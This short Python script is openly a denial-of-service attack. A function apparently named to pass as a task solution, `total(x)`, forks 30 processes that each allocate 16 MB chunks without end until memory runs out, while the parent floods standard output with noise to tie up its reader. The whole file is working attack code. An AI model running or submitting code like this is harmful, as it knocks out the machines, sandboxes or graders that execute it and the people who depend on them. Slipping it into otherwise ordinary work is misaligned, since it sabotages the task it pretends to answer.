"""Takes all memory in many processes while another keeps its reader busy with noise."""

import os


def total(x):
    for _ in range(30):
        if os.fork() == 0:
            taken = []
            while True:
                taken.append(bytearray(b"x" * (16 << 20)))
    while True:
        os.write(1, b"noise" * 10_000)
